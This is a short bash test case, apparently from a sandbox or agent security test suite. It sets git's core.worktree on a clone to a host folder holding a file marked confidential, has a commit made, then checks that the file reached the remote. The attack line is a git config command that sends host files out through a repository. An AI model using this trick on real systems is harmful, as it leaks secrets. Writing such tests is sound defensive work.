# SPDX-License-Identifier: Apache-2.0 OR MIT
# shellcheck shell=bash disable=SC2034,SC2154
technique=T1552.001
about="core.worktree is a folder of the host, whose files are committed and pushed"
before() {
	mkdir -p /srv/host
	cp $work/seed/* /srv/host
	echo confidential >/srv/host/README
}
attack() {
	HOME=$work/home git -C $work/clone config core.worktree /srv/host
	tell commit
}
effect() { HOME=$work/home git -C $work/remote.git show main:README | grep -q confidential; }
